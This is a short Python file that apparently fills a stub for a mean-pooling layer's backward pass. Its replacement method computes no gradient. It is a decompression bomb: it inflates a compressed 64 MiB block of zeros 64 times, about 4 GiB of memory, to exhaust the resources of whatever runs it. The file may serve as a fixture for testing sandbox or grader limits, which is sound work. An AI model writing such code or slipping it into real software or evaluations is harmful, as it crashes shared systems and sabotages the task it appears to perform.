"""Unpacks a few kilobytes into gigabytes."""

import zlib

# @STUB mean_pooling@


def backward(self, dout):
    packed = zlib.compress(bytes(1 << 26), 9)
    return [zlib.decompress(packed) for _ in range(64)]


MeanPoolingLayer.backward = backward
